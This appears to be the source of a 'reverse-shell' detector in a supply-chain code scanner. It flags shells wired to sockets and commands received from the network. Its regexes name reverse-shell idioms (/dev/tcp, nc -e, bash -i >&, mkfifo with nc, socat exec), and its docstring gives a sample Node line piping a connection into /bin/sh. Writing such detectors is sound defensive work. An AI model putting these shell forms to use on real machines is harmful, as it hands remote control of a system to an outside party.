"""A shell is connected to another machine.

**What.** A command interpreter whose input or output is a socket (piped, passed as `stdin` and `stdout`, or
put in place with `dup2`); a program or shell command that was received from a socket, a web socket, an HTTP
answer or its headers, a record of names, a queue, a mail, or that a program writes which asks another
machine (`dig`, `curl`, `git ls-remote`); and the command lines that are known for it (`/dev/tcp/`, `nc -e`,
`bash -i >&`). So are such lines in a script for a shell that a server brings and names.

**Why.** Whoever is at the other end works on the machine as if sitting at it, with all rights of
the user who started the server.

**Example.** `const link = net.connect(4443, "203.0.113.77"); link.pipe(spawn("/bin/sh").stdin)`

**Reported with less weight.** A shell that is started in the same file that opens a connection, where the
way from one to the other is not known. A browser that is opened through a shell on an address from the
network, in quotes: a shell still replaces `$(...)` inside of them. An argument from the
network in the command line of a program that is written out (`git remote add origin ${answer.url}`).

**Left alone.** A browser that is opened without a shell; what is received and quoted (`shlex.quote`) as an
argument of a program that runs no arguments; a shell that runs what the caller of a tool asks
for, beside an unrelated socket; what a program that asks another machine writes, as an argument of another
program; a language server that is started with pipes; a client of a text protocol over a socket.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import TYPE_CHECKING

import douane_signatures
from douane.detectors import _sources as sources
from douane.detectors._answered import answered
from douane.detectors._beside import is_bundle
from douane.detectors._brought_scripts import brought
from douane.detectors._catalogue import catalogue, encoded
from douane.detectors._command_lines import command_lines, word_lists
from douane.detectors._flow import HOLE, program_of
from douane.detectors._flow.shapes import elements
from douane.detectors._messages import is_message
from douane.detectors._outlets import ways
from douane.detectors._places import evidence_at, is_aside, is_near
from douane.detectors._set_going import started
from douane.detectors._shell_beside import WHY, shells_beside_connections
from douane.model import Confidence, Severity
from douane.rules import Evidence, Rule

if TYPE_CHECKING:
    from douane.detectors._flow import Program, State
    from douane.syntax import Codebase

_LINES = re.compile(
    r"/dev/(tcp|udp)/|\b(nc|ncat|netcat)\b[^\n|;]{0,80}\s-\w{0,4}[ec]\b|\b(ba|z|da)?sh\s+-i\s*[<>0-9]*>?&"
    r"|\bmkfifo\b[^\n]{0,120}\b(nc|ncat|openssl)\b|\bsocat\b[^\n]{0,120}\bexec:"
)
_SHELL = re.compile(r"(^|[\\/])((ba|z|da|k|fi)?sh|cmd|powershell|pwsh)(\.\w{1,10})?(\s|$)")
_SOCKETS = frozenset({"net", "tls", "ws", "socket", "dgram", "websocket", "websockets"})
_WORDS = encoded(("tcp", "udp", "nc", "ncat", "netcat", "mkfifo", "socat", "WebSocket"))
_LARGE = 64 * 1024
_PATHS = frozenset({"path.join", "path.resolve", "os.path.join", "pathlib.Path", "url.fileURLToPath"})
_EVALUATED = "eval"
_QUOTING = frozenset(
    {"quote", "shellQuote", "shellescape", "shell_quote", "escapeshellarg", "escapeShellArg"}
)
# A command line whose program runs what it is given, quoted or not, or is not known.
_RUNS_ITS_ARGUMENT = re.compile(
    r"^\s*\ufffc|(^|[\s/;&|(])(eval|exec|((ba|z|da|k|fi)?sh|cmd|powershell|pwsh)(\.\w{1,10})?|python[\d.]*|node|deno|bun|perl"
    r"|ruby|php|ssh|env|xargs|sudo|nohup|timeout|nice|docker|source|\.)(\.exe)?\s"
)
# What tells an interpreter that its next argument is what it is to run.
_ORDERS = re.compile(r"-\w{0,3}[ce]|--eval|--exec|-Command|-EncodedCommand|/[ck]", re.IGNORECASE)
_VIEWS = "lets a shell read an address from the network, in quotes, to show it in the browser"
_FILLED = "lets a shell read, without quotes, an argument that comes from the network"
_UNTOLD = (
    "starts a program, which one is not told, whose input and output are a connection to another machine"
)
# Where a shell looks for a command: what stands there is run, whatever begins the line.
_COMMAND = re.compile(
    r"[;&|(`\n]\s*\ufffc|\|\s*(\S*/)?((ba|z|da|k|fi)?sh|python[\d.]*|node|perl|ruby|php)\b|[<$]\(|-\w?[ec]\s"
)
_ASKED = "runs what another machine answers to a program or keeps in a store, asked at"
# What is not known stands where a shell takes a command from.
_COMMANDED = re.compile(r"(^|[;&|(`\n]|\beval|\b(ba|z|da)?sh\s+-\w{0,3}c)\s*[\"']?\ufffc")
_FROM_AFAR = "runs commands that come from the network"
_NO_SHELL = "Start the program with a list of arguments and no shell (`execFile`, `subprocess.run([...])`)."


def look(codebase: Codebase) -> Iterator[Evidence]:
    """Yield the shells that are connected to another machine."""
    program = program_of(codebase)
    yield from brought(codebase, RULE.id)
    linked = bool(program.importing(_SOCKETS) or program.mentioning(_WORDS))
    if not linked and program.size > _LARGE:
        return
    starters = frozenset(douane_signatures.table(sources.EXECUTION)["starters"]["modules"])
    searched = program.paths if program.size <= _LARGE else program.importing(starters)
    starting = catalogue(sources.EXECUTION, "start")
    paths = tuple(
        path
        for path in searched
        if program.size <= _LARGE  # there, what starts a program may have another name
        or not starting.words.isdisjoint(program.words(path))
        or "child_process" in program.imports(path)
    )
    judge = _Judge(program, frozenset(call.key[:2] for _, call in starting.calls(program, paths)))
    told: set[str] = set()
    for _, call in starting.calls(program, paths):
        why = judge.why(call)
        if why:
            told.add(call.index.path)
            views = why in (_VIEWS, _UNTOLD)
            # Who answers decides an argument, and by its signs perhaps a command: no shell is handed over.
            # In a bundle, what one library receives is followed into another by names of one letter.
            guessed = why.startswith(_FROM_AFAR) and is_bundle(call.index)
            severity = Severity.MEDIUM if views or why == _FILLED or guessed else None
            evidence = evidence_at(
                call,
                why=why,
                severity=Severity.LOW if is_aside(call.index.path) else severity,
                confidence=Confidence.LOW if views else Confidence.MEDIUM if why == _FILLED else None,
                remedy=_NO_SHELL if why in (_VIEWS, _FILLED) else None,
            )
            yield evidence
            yield from started(program, call, evidence) if evidence.severity is None else ()
            if why.startswith(_FROM_AFAR):
                yield from _sent_back(program, call)
    for call in shells_beside_connections(program):
        if call.index.path not in told:
            yield evidence_at(call, why=WHY, severity=Severity.MEDIUM, confidence=Confidence.LOW)


def _sent_back(program: Program, start: State) -> Iterator[Evidence]:
    """Yield where what the command from afar wrote, which *start* runs, is sent to another machine."""
    tracer = program.tracer(lambda state: "output" if state.key[:2] == start.key[:2] else None)
    for way in ways(program, program.connected([start.index.path])):
        if not is_near(way.at, start) and any(tracer.reaches(part) for _, part in way.parts()):
            yield evidence_at(
                way.at, why=f"what commands from the network write is sent back, run at {_place(start)}"
            )


class _Judge:
    """Judges the calls at *starts* that start programs."""

    def __init__(self, program: Program, starts: frozenset[tuple[str, int]]) -> None:
        self._program = program
        self._ends: dict[str, dict[tuple[str, int], list[tuple[bool, State]]]] = {}
        self._started = program.tracer(lambda state: "shell" if state.key[:2] in starts else None)
        self._received = program.tracer(lambda state: self._named(state, "receive"))
        self._open = program.tracer(self._not_one_word)
        self._answered = program.tracer(lambda state: "asks" if answered(program, state) else None)
        self._bare = program.tracer(self._unquoted)
        self._sockets = program.tracer(self._socket)

    def _named(self, state: State, section: str) -> str | None:
        called = self._program.callee(state)
        if not _PATHS.isdisjoint(called):
            return ""  # where a file lies is no command, whatever its name is made of
        if _EVALUATED in called:
            return ""  # any name of its namespace may be meant; code that is received is told elsewhere
        found = catalogue(sources.NETWORK, section).is_call(self._program, state)
        return section if found is not None or is_message(self._program, state) else None

    def _unquoted(self, state: State) -> str | None:
        call = self._program.call(state)
        if call is not None and call.name in ("stringify", "dumps"):
            return ""
        return self._named(state, "receive")

    def _not_one_word(self, state: State) -> str | None:
        call = self._program.call(state)
        if call is not None and call.name in _QUOTING:
            return ""
        return self._named(state, "receive")

    def _is_one_word(self, part: State) -> bool:
        """Whether what is received is quoted for a shell, as an argument of what runs no arguments."""
        lines = self._program.shapes(part)
        runs = any(HOLE not in line or _RUNS_ITS_ARGUMENT.search(line) for line in lines)
        return not runs and not self._open.trace(part)

    def _is_argument(self, part: State) -> bool:
        """Whether what is received is only an argument in the line of a program that is written out."""
        lines = self._program.shapes(part)
        return all(
            HOLE in line and not _RUNS_ITS_ARGUMENT.search(line) and not _COMMAND.search(line)
            for line in lines
        )

    def _views(self, part: State) -> bool:
        """Whether *part* is a command line that shows something to the user, named by quoted text.

        The quotes keep the text in one argument, though not from what a shell replaces inside of them.
        """
        viewers = re.compile(douane_signatures.table(sources.EXECUTION)["viewers"]["line"])
        lines = self._program.shapes(part)
        only = all((shown := viewers.match(line)) and line[shown.end() :] == HOLE for line in lines)
        return only and not self._bare.trace(part)

    def _socket(self, state: State) -> str | None:
        found = catalogue(sources.EXECUTION, "socket").is_call(self._program, state)
        return "socket" if found is not None else None

    def why(self, call: State) -> str:
        """Return what is wrong with the program start at *call*; empty if nothing is."""
        lines = command_lines(self._program, call)
        known = next((line for line in lines if _LINES.search(line)), None)
        if known is not None:
            return f"starts a shell that is connected to another machine: {known[:80].replace(HOLE, '…')}"
        first = self._program.argument(call, 0, "args")
        if first is None:
            return ""
        if not any(HOLE not in line for line in lines):
            for part in elements(self._program, first)[:1] or [first]:
                found = self._received.trace(part)
                if found and not self._is_one_word(part):
                    return self._filled(part, found[0].at)
                asked = self._answered.trace(part)
                if asked and any(_COMMANDED.search(line) for line in self._program.shapes(part)):
                    return f"{_ASKED} {_place(asked[0].at)}"
        ordered = self._ordered(call, first)
        if ordered is not None:
            return f"{_FROM_AFAR}, received at {_place(ordered)}"
        return self._connected(call, lines)

    def _filled(self, part: State, at: State) -> str:
        """Return what is wrong with the command line *part*, some of which was received at *at*."""
        if self._views(part):
            return _VIEWS
        if self._is_argument(part):
            return _FILLED
        return f"{_FROM_AFAR}, received at {_place(at)}"

    def _ordered(self, call: State, first: State) -> State | None:
        """Return where the command comes from the network that an interpreter is given: ``sh -c ...``."""
        program = self._program
        listed = elements(program, first)
        given = program.argument(call, 1)
        words = listed or [first, *(elements(program, given) if given is not None else [])]
        found = (self._told(each) for each in word_lists(program, words))
        return next((each for each in found if each is not None), None)

    def _told(self, words: list[State]) -> State | None:
        """Return where the command comes from the network that an interpreter is told by the line *words*."""
        program = self._program
        told = [program.shapes(word)[0] for word in words]
        place = next((each for each, text in enumerate(told) if _ORDERS.fullmatch(text)), 0)
        runs = place > 0 and any(_RUNS_ITS_ARGUMENT.search(f"{each} ") for each in program.shapes(words[0]))
        for word in words[place + 1 : place + 2] if runs else ():  # what follows are its own arguments
            found = self._received.trace(word) or self._answered.trace(word)
            if found and not self._is_one_word(word):
                return found[0].at
        return None

    def _connected(self, call: State, lines: tuple[str, ...]) -> str:
        if any(_SHELL.search(line) for line in lines) and self._is_connected(call):
            return "starts a shell whose input and output are a connection to another machine"
        if (
            lines
            and all(line.split(" ")[0] == HOLE for line in lines)
            and self._is_connected(call, both=True)
        ):
            return _UNTOLD
        return ""

    def _is_connected(self, call: State, *, both: bool = False) -> bool:
        program = self._program
        made = program.call(call)
        given = list(made.keywords.values()) if made is not None else []
        given += made.arguments[1:] if made is not None else []
        if not both and any(self._sockets.trace(call.at(node)) for node in given):
            return True
        near = (call.index.path,)
        duplicating = frozenset({"dup2"} if call.index.module.language.is_python else ())
        for state in program.calls(near, duplicating) if duplicating else ():
            if any(self._sockets.trace(state.at(node)) for node in program.nodes(state)):
                return True
        ways: set[bool] = set()
        for receives, pipe in self._joined(call.index.path).get(call.key[:2], ()):
            if receives not in ways and any(self._sockets.reaches(end) for end in self._ends_of(pipe)):
                ways.add(receives)
                if not both or len(ways) == 2:
                    return True
        return False

    def _joined(self, path: str) -> dict[tuple[str, int], list[tuple[bool, State]]]:
        """Return the calls in the file at *path* that join two streams, by the start whose stream is an end.

        True stands for a stream that comes out of the program, or that is called on.
        """
        if path not in self._ends:
            found = self._ends[path] = {}
            for pipe in self._program.calls((path,), frozenset({"pipe", "write", "send", "sendall"})):
                for position, end in enumerate(self._ends_of(pipe)):
                    for key in dict.fromkeys(trace.at.key[:2] for trace in self._started.trace(end)):
                        found.setdefault(key, []).append((position == 0, pipe))
        return self._ends[path]

    def _ends_of(self, pipe: State) -> list[State]:
        call = self._program.call(pipe)
        if call is None or call.receiver is None:
            return []
        return [pipe.at(call.receiver), *(pipe.at(node) for node in call.arguments[:1])]


def _place(state: State) -> str:
    return f"{state.index.path}:{state.line}"


RULE = Rule(
    id="reverse-shell",
    summary="a shell is connected to another machine",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    row="supply.code",
    remedy="Do not install this package; treat a machine on which it ran as taken over.",
    taxonomy=("MCP04:2025", "MCP05:2025", "SAFE-T1903", "SAFE-T1203", "AML.T0072"),
    code=look,
)
